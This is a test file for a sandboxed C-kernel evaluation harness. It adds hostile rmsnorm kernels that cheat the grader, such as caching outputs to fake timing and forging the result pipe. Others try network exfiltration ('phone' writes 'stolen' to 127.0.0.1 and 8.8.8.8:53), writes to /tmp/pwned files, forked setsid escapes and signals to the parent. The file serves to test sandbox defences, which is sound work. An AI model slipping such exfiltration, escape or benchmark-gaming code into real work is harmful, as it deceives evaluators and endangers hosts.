@@ -1,0 +1,463 @@
+"""The hostile gallery: real C candidates that cheat, crash or attack, each with the status it
+must get; correct kernels must stay ``ok`` under the same sandbox.
+
+Where the right status is debatable, the choice is explained next to the kernel:
+
+- Breaking a rule of the contract (writing outside an output, modifying an input, writing
+  after returning) is ``invalid``; a result that is merely not the right numbers is
+  ``wrong_result``; dying or not reporting is ``runtime_error``; running past the wall-clock
+  limit is ``timeout``.
+- Attacks the sandbox stops (network, files, processes, signals) are not policed as intent:
+  the kernel gets the status its *outputs* earn. A kernel that needs the attack to succeed
+  to be correct is therefore non-``ok``; a kernel that attempts it and is correct anyway is
+  ``ok`` and the test checks that the attempt had no effect (no connection accepted, no
+  file created). Each attack also runs once *outside* the sandbox (a control, loaded with
+  ctypes in this process) to prove the test is not vacuous.
+
+Gallery results on the development host (2-core x86_64, root, Landlock ABI 7) are in
+``HOSTILE`` below; ``test_the_gallery_table`` prints them as a table with ``-s``.
+"""
+
+from __future__ import annotations
+
+import ctypes
+import os
+import secrets
+import socket
+import threading
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from kernels import Outcome, evaluate, get_workload, load_template
+from kernels.backends.cpu import CpuBackend
+from kernels.space import format_defines
+
+pytestmark = pytest.mark.timeout(120)
+
+PROJECT = Path(__file__).resolve().parents[2]
+
+HEAD = r"""
+#include <math.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+"""
+
+# The correct computation, as a helper every hostile kernel can call.
+RMS_ROW = r"""
+static void rms_rows(const float *x, const float *w, float *y, int rows, int hidden, float eps)
+{
+    for (int r = 0; r < rows; ++r) {
+        const float *xr = x + (long)r * hidden;
+        float *yr = y + (long)r * hidden;
+        double s = 0.0;
+        for (int i = 0; i < hidden; ++i) s += (double)xr[i] * xr[i];
+        float inv = (float)(1.0 / sqrt(s / hidden + eps));
+        for (int i = 0; i < hidden; ++i) yr[i] = xr[i] * inv * w[i];
+    }
+}
+"""
+
+SIG = "void rmsnorm(const float *x, const float *w, float *y, int rows, int hidden, float eps)"
+
+
+def k(body: str, prelude: str = "") -> str:
+    """A candidate: headers, the correct helper, ``prelude`` and ``rmsnorm`` with ``body``."""
+    return f"{HEAD}{RMS_ROW}{prelude}\n{SIG}\n{{\n{body}\n}}\n"
+
+
+CORRECT = k("rms_rows(x, w, y, rows, hidden, eps);")
+
+# -- the gallery -----------------------------------------------------------------------------
+
+NEVER_RETURNS = k("for (;;) { __asm__ volatile(\"\"); }")
+SEGFAULTS = k("*(volatile int *)16 = 1; rms_rows(x, w, y, rows, hidden, eps);")
+ABORTS = k("abort();")
+EXITS = k("exit(0);")
+DOES_NO_WORK = k("(void)x; (void)w; (void)y;")
+WRITES_PAST_OUTPUT = k("rms_rows(x, w, y, rows, hidden, eps); y[(long)rows * hidden + 5] = 0.0f;")
+WRITES_BEFORE_OUTPUT = k("rms_rows(x, w, y, rows, hidden, eps); y[-3] = 0.0f;")
+MODIFIES_INPUT = k("rms_rows(x, w, y, rows, hidden, eps); ((float *)x)[rows * hidden - 1] *= 0.5f;")
+WRITES_PAST_INPUT = k("rms_rows(x, w, y, rows, hidden, eps); ((float *)w)[hidden + 1] = 1.0f;")
+
+# A static buffer filled on the first call and copied out whenever the size matches: caught
+# by the second seed of the odd shape (and by every timed output re-validated).
+CACHES_BY_SIZE = k(
+    """
+    static float *cache = 0; static long cached = -1;
+    long n = (long)rows * hidden;
+    if (cache && cached == n) { memcpy(y, cache, n * sizeof(float)); return; }
+    rms_rows(x, w, y, rows, hidden, eps);
+    free(cache); cache = malloc(n * sizeof(float)); memcpy(cache, y, n * sizeof(float)); cached = n;
+    """
+)
+
+# Subtler: caches per input *pointer*, so every validation case (own buffers) and both
+# timing input sets (distinct buffers) look right while timing measures a memcpy. Caught by
+# the call on fresh contents written into the timed buffers after timing.
+CACHES_BY_POINTER = k(
+    """
+    static const float *keys[8]; static float *vals[8]; static long sizes[8]; static int used = 0;
+    long n = (long)rows * hidden;
+    for (int i = 0; i < used; ++i)
+        if (keys[i] == x && sizes[i] == n) { memcpy(y, vals[i], n * sizeof(float)); return; }
+    rms_rows(x, w, y, rows, hidden, eps);
+    int slot = used < 8 ? used++ : 0;
+    free(vals[slot]); vals[slot] = malloc(n * sizeof(float));
+    memcpy(vals[slot], y, n * sizeof(float)); keys[slot] = x; sizes[slot] = n;
+    """
+)
+
+# Drops the tail of every row that is not a multiple of 8 (a missing remainder loop): right
+# on the timed shapes (hidden 256), wrong on the odd validation shape (hidden 259).
+TILE_MULTIPLES_ONLY = k(
+    """
+    for (int r = 0; r < rows; ++r) {
+        const float *xr = x + (long)r * hidden; float *yr = y + (long)r * hidden;
+        int end = hidden / 8 * 8;
+        float s = 0.0f;
+        for (int i = 0; i < end; ++i) s += xr[i] * xr[i];
+        float inv = 1.0f / sqrtf(s / hidden + eps);
+        for (int i = 0; i < end; ++i) yr[i] = xr[i] * inv * w[i];
+        for (int i = end; i < hidden; ++i) yr[i] = 0.0f;
+    }
+    """
+)
+
+# Accumulates the sum of squares in half precision (11-bit significand, max 65504).
+HALF_ACCUMULATOR = k(
+    """
+    for (int r = 0; r < rows; ++r) {
+        const float *xr = x + (long)r * hidden; float *yr = y + (long)r * hidden;
+        _Float16 s = 0;
+        for (int i = 0; i < hidden; ++i) s += (_Float16)(xr[i] * xr[i]);
+        float inv = 1.0f / sqrtf((float)s / hidden + eps);
+        for (int i = 0; i < hidden; ++i) yr[i] = xr[i] * inv * w[i];
+    }
+    """
+)
+
+# Scales the squares up by 2**113 "to keep tiny activations out of the denormal range" (an
+# fp16 habit carried into fp32): exact for ordinary rows, but the sum overflows to inf on the
+# outlier rows (tokens scaled 5-20x, massive-activation channels), whose output becomes 0.
+OVERFLOWS_ON_OUTLIERS = k(
+    """
+    const float up = 0x1p113f, down = 0x1p-113f;
+    for (int r = 0; r < rows; ++r) {
+        const float *xr = x + (long)r * hidden; float *yr = y + (long)r * hidden;
+        float s = 0.0f;
+        for (int i = 0; i < hidden; ++i) s += (xr[i] * xr[i]) * up;
+        float inv = 1.0f / sqrtf(s * down / hidden + eps);
+        for (int i = 0; i < hidden; ++i) yr[i] = xr[i] * inv * w[i];
+    }
+    """
+)
+
+# OpenMP threads add into one shared float without a reduction: lost updates whenever the
+# threads overlap. On hidden 4096 they overlap on most calls (evaluated on llama3-8b); on
+# tiny rows (hidden 256) they rarely do, and such a kernel would pass there.
+RACES = k(
+    """
+    for (int r = 0; r < rows; ++r) {
+        const float *xr = x + (long)r * hidden; float *yr = y + (long)r * hidden;
+        float s = 0.0f;
+        #pragma omp parallel for
+        for (int i = 0; i < hidden; ++i) s += xr[i] * xr[i];  /* race: no reduction(+:s) */
+        float inv = 1.0f / sqrtf(s / hidden + eps);
+        for (int i = 0; i < hidden; ++i) yr[i] = xr[i] * inv * w[i];
+    }
+    """
+)
+
+# Returns at once and lets a detached thread write the output: its timing excludes the work.
+# invalid when the write lands after the copy taken right after the return, wrong_result
+# (NaN) when the copy is taken before the thread has written anything; never ok.
+THREAD_OUTLIVES_CALL = k(
+    """
+    struct job *j = malloc(sizeof *j);
+    *j = (struct job){x, w, y, rows, hidden, eps};
+    pthread_t t;
+    if (pthread_create(&t, 0, late_work, j) == 0) pthread_detach(t);
+    """,
+    prelude=r"""
+#include <pthread.h>
+struct job { const float *x, *w; float *y; int rows, hidden; float eps; };
+static void *late_work(void *arg)
+{
+    struct job *j = arg;
+    usleep(200);
+    rms_rows(j->x, j->w, j->y, j->rows, j->hidden, j->eps);
+    free(j);
+    return 0;
+}
+""",
+)
+
+# Writes into the result pipe (fds 3..63) so the parent would read a forged result.
+FORGES_THE_RESULT_PIPE = k(
+    """
+    static const char m[] = "{\\"ok\\": true, \\"timed\\": {}}";
+    for (int fd = 3; fd < 64; ++fd) (void)!write(fd, m, sizeof m - 1);
+    rms_rows(x, w, y, rows, hidden, eps);
+    """
+)
+
+NETWORK_PRELUDE = r"""
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+static int phone(const char *ip, int port)
+{
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    if (s < 0) return 0;
+    struct sockaddr_in a = {0};
+    a.sin_family = AF_INET; a.sin_port = htons(port); inet_pton(AF_INET, ip, &a.sin_addr);
+    int ok = connect(s, (struct sockaddr *)&a, sizeof a) == 0;
+    if (ok) (void)!write(s, "stolen", 6);
+    close(s);
+    return ok;
+}
+"""
+
+# Correct, and tries to connect to a listener of this test and to 8.8.8.8:53 on every call.
+PHONES_HOME = k(
+    "phone(\"127.0.0.1\", PORT); phone(\"8.8.8.8\", 53); rms_rows(x, w, y, rows, hidden, eps);",
+    prelude=NETWORK_PRELUDE,
+)
+# Correct only when the connection succeeds ("fetches its weights from the network").
+NEEDS_THE_NETWORK = k(
+    "if (phone(\"127.0.0.1\", PORT)) rms_rows(x, w, y, rows, hidden, eps);",
+    prelude=NETWORK_PRELUDE,
+)
+
+# Keeps its result in files outside its directory and reads it back ("a disk cache"), so it is
+# correct only if the writes succeed. TOKEN makes the file names unique per test run.
+WRITES_OUTSIDE = k(
+    """
+    char paths[2][512];
+    snprintf(paths[0], sizeof paths[0], "/tmp/pwned-%d", TOKEN);
+    snprintf(paths[1], sizeof paths[1], "%s/pwned-%d", PROJECT_DIR, TOKEN);
+    long n = (long)rows * hidden;
+    float *tmp = malloc(n * sizeof(float));
+    rms_rows(x, w, tmp, rows, hidden, eps);
+    int ok = 1;
+    for (int p = 0; p < 2; ++p) {
+        FILE *f = fopen(paths[p], "wb");
+        if (!f) { ok = 0; continue; }
+        fwrite(tmp, sizeof(float), n, f); fclose(f);
+    }
+    FILE *f = ok ? fopen(paths[0], "rb") : 0;
+    if (f) { if (fread(y, sizeof(float), n, f) != (size_t)n) memset(y, 0, n * sizeof(float)); fclose(f); }
+    free(tmp);
+    """
+)
+
+# Correct only if fork() fails (the child would escape the process group with setsid()).
+NEEDS_FORK_DENIED = k(
+    """
+    pid_t p = fork();
+    if (p == 0) { setsid(); sleep(1000); _exit(0); }
+    if (p < 0) rms_rows(x, w, y, rows, hidden, eps);
+    """,
+    prelude="#include <sys/types.h>\n",
+)
+
+# Correct only if it cannot signal its parent (the worker): signal 0 only checks permission.
+NEEDS_SIGNAL_DENIED = k(
+    "if (kill(getppid(), 0) != 0) rms_rows(x, w, y, rows, hidden, eps);",
+    prelude="#include <signal.h>\n",
+)
+
+# OpenMP must keep working for the unprivileged sandbox user: correct only if a parallel
+# region really runs on every CPU.
+NEEDS_OPENMP_THREADS = k(
+    """
+    int n = 0;
+    #pragma omp parallel
+    {
+        #pragma omp atomic
+        n++;
+    }
+    if (n == NPROC) rms_rows(x, w, y, rows, hidden, eps);
+    """,
+    prelude="#include <omp.h>\n",
+)
+
+# (name, source, params, shape set, expected statuses)
+HOSTILE = [
+    ("never returns", NEVER_RETURNS, {}, "test-small", {Outcome.timeout}),
+    ("segfaults", SEGFAULTS, {}, "test-small", {Outcome.runtime_error}),
+    ("aborts", ABORTS, {}, "test-small", {Outcome.runtime_error}),
+    ("exits the process", EXITS, {}, "test-small", {Outcome.runtime_error}),
+    ("forges the result pipe", FORGES_THE_RESULT_PIPE, {}, "test-small", {Outcome.runtime_error}),
+    ("does no work", DOES_NO_WORK, {}, "test-small", {Outcome.wrong_result}),
+    ("writes past its output", WRITES_PAST_OUTPUT, {}, "test-small", {Outcome.invalid}),
+    ("writes before its output", WRITES_BEFORE_OUTPUT, {}, "test-small", {Outcome.invalid}),
+    ("modifies its input", MODIFIES_INPUT, {}, "test-small", {Outcome.invalid}),
+    ("writes past an input", WRITES_PAST_INPUT, {}, "test-small", {Outcome.invalid}),
+    ("caches its output by size", CACHES_BY_SIZE, {}, "test-small", {Outcome.wrong_result}),
+    ("caches its output by pointer", CACHES_BY_POINTER, {}, "test-small", {Outcome.wrong_result}),
+    ("only correct for tile multiples", TILE_MULTIPLES_ONLY, {}, "test-small", {Outcome.wrong_result}),
+    ("accumulates in half precision", HALF_ACCUMULATOR, {}, "test-small", {Outcome.wrong_result}),
+    ("overflows on outlier rows", OVERFLOWS_ON_OUTLIERS, {}, "test-small", {Outcome.wrong_result}),
+    ("races (no OpenMP reduction)", RACES, {}, "llama3-8b", {Outcome.wrong_result}),
+    ("works in a thread that outlives the call", THREAD_OUTLIVES_CALL, {}, "test-small",
+     {Outcome.invalid, Outcome.wrong_result}),
+]
+
+CORRECT_KERNELS = [
+    ("plain C", CORRECT, {}),
+    ("template, float accumulator", load_template("rmsnorm"), {"ROWS_PER_CHUNK": 2, "UNROLL": 4, "VEC": 8, "ACC_DOUBLE": 0}),
+    ("template, double accumulator", load_template("rmsnorm"), {"ROWS_PER_CHUNK": 1, "UNROLL": 1, "VEC": 16, "ACC_DOUBLE": 1}),
+    ("OpenMP on every CPU", NEEDS_OPENMP_THREADS, {"NPROC": os.cpu_count() or 1}),
+]
+
+RESULTS: dict[str, str] = {}
+
+
+def run(source, quick_bench, params=None, shape_set="test-small", **kw):
+    kw.setdefault("timeout_s", 30)
+    return evaluate("rmsnorm", source, params or {}, shape_set=shape_set, bench=quick_bench, seed=3, **kw)
+
+
+@pytest.mark.parametrize("name, source, params, shape_set, expected", HOSTILE, ids=[h[0] for h in HOSTILE])
+def test_each_hostile_kernel_gets_its_status(name, source, params, shape_set, expected, quick_bench):
+    timeout = 3 if Outcome.timeout in expected else 30
+    ev = run(source, quick_bench, params, shape_set, timeout_s=timeout)
+    RESULTS[name] = str(ev.status)
+    assert ev.status in expected, f"{name}: {ev.status}\n{ev.log[-3000:]}"
+
+
+@pytest.mark.parametrize("name, source, params", CORRECT_KERNELS, ids=[c[0] for c in CORRECT_KERNELS])
+def test_correct_kernels_stay_ok_in_the_sandbox(name, source, params, quick_bench):
+    ev = run(source, quick_bench, params)
+    RESULTS[f"(correct) {name}"] = str(ev.status)
+    assert ev.status == Outcome.ok, ev.log[-3000:]
+    assert all(c["passed"] for c in ev.cases)
+    assert {c["kind"] for c in ev.cases} == {"validation", "timed", "fresh"}
+
+
+def test_the_reasons_name_what_was_caught(quick_bench):
+    assert "fresh contents" in run(CACHES_BY_POINTER, quick_bench).log
+    assert "rows=7,hidden=259" in run(TILE_MULTIPLES_ONLY, quick_bench).log
+    assert "wrote before the start of output 'y'" in run(WRITES_BEFORE_OUTPUT, quick_bench).log
+    assert "wrote outside input 'w'" in run(WRITES_PAST_INPUT, quick_bench).log
+    assert "SIGSEGV" in run(SEGFAULTS, quick_bench).log
+
+
+# -- attacks the sandbox must stop -------------------------------------------------------------
+
+
+def _call_directly(source: str, params: dict, shape=None) -> np.ndarray:
+    """Control: compile ``source`` and call it in this process, outside any sandbox."""
+    wl = get_workload("rmsnorm")
+    shape = shape or {"rows": 2, "hidden": 16}
+    inp = wl.generate(shape, 0)
+    y = np.full((shape["rows"], shape["hidden"]), np.nan, np.float32)
+    lib = ctypes.CDLL(str(CpuBackend().compile(source, format_defines(params)).path))
+    lib.rmsnorm.argtypes = [ctypes.c_void_p] * 3 + [ctypes.c_int, ctypes.c_int, ctypes.c_float]
+    lib.rmsnorm(inp["x"].ctypes.data, inp["w"].ctypes.data, y.ctypes.data, shape["rows"], shape["hidden"], 1e-5)
+    _, rel = wl.errors(y, wl.reference(inp, wl.attrs)["y"])
+    return rel <= wl.tolerance
+
+
+class _Listener:
+    """A TCP listener on 127.0.0.1 that counts accepted connections."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.accepted = 0
+        self._stop = False
+        self._thread = threading.Thread(target=self._loop, daemon=True)
+        self._thread.start()
+
+    def _loop(self) -> None:
+        while not self._stop:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            self.accepted += 1
+            conn.close()
+
+    def close(self) -> None:
+        self._stop = True
+        self._thread.join()
+        self.sock.close()
+
+
+@pytest.fixture
+def listener():
+    lst = _Listener()
+    yield lst
+    lst.close()
+
+
+def test_a_kernel_that_phones_home_cannot_connect(listener, quick_bench):
+    assert _call_directly(PHONES_HOME, {"PORT": listener.port})  # control: connects
+    assert listener.accepted >= 1
+    before = listener.accepted
+    ev = run(PHONES_HOME, quick_bench, {"PORT": listener.port})
+    RESULTS["phones home (correct otherwise)"] = str(ev.status)
+    assert ev.status == Outcome.ok, ev.log[-3000:]  # correct output; the attempts failed
+    assert listener.accepted == before
+    assert ev.fingerprint["sandbox"]["network"] in ("namespace", "user-namespace")
+    assert "socket" in ev.fingerprint["sandbox"]["seccomp"]
+
+
+def test_a_kernel_that_needs_the_network_is_not_ok(listener, quick_bench):
+    assert _call_directly(NEEDS_THE_NETWORK, {"PORT": listener.port})  # control: correct
+    ev = run(NEEDS_THE_NETWORK, quick_bench, {"PORT": listener.port})
+    RESULTS["needs the network"] = str(ev.status)
+    assert ev.status == Outcome.wrong_result, ev.log[-3000:]
+
+
+def test_a_kernel_cannot_write_outside_its_directory(quick_bench):
+    token = secrets.randbelow(10**9)
+    files = [Path(f"/tmp/pwned-{token}"), PROJECT / f"pwned-{token}"]
+    source = f'#define PROJECT_DIR "{PROJECT}"\n' + WRITES_OUTSIDE
+    try:
+        assert _call_directly(source, {"TOKEN": token})  # control: the writes work outside
+        assert all(f.exists() for f in files)
+        for f in files:
+            f.unlink()
+        ev = run(source, quick_bench, {"TOKEN": token})
+        RESULTS["writes outside its directory"] = str(ev.status)
+        assert ev.status == Outcome.wrong_result, ev.log[-3000:]
+        assert not any(f.exists() for f in files)
+        assert ev.fingerprint["sandbox"]["filesystem"] in ("landlock", "mount-namespace")
+    finally:
+        for f in files:
+            f.unlink(missing_ok=True)
+
+
+def test_a_kernel_cannot_start_processes_or_signal_the_worker(quick_bench):
+    ev = run(NEEDS_FORK_DENIED, quick_bench)
+    RESULTS["forks an escaping process (correct iff fork fails)"] = str(ev.status)
+    assert ev.status == Outcome.ok, ev.log[-3000:]
+    ev = run(NEEDS_SIGNAL_DENIED, quick_bench)
+    RESULTS["signals the worker (correct iff denied)"] = str(ev.status)
+    assert ev.status == Outcome.ok, ev.log[-3000:]
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="the privilege drop happens only when the worker runs as root")
+def test_as_root_the_candidate_runs_as_an_unprivileged_user(quick_bench):
+    src = k("if (getuid() != 0 && geteuid() != 0 && access(\"/root\", R_OK) != 0) rms_rows(x, w, y, rows, hidden, eps);")
+    ev = run(src, quick_bench)
+    assert ev.status == Outcome.ok, ev.log[-3000:]
+    sb = ev.fingerprint["sandbox"]
+    assert sb["user"]["dropped"] and sb["user"]["uid"] != 0 and sb["no_new_privs"]
+
+
+def test_the_gallery_table():
+    """Prints kernel -> status for the report (run with ``-s``); always passes."""
+    width = max((len(n) for n in RESULTS), default=10)
+    for name, status in RESULTS.items():
+        print(f"{name:<{width}}  {status}")
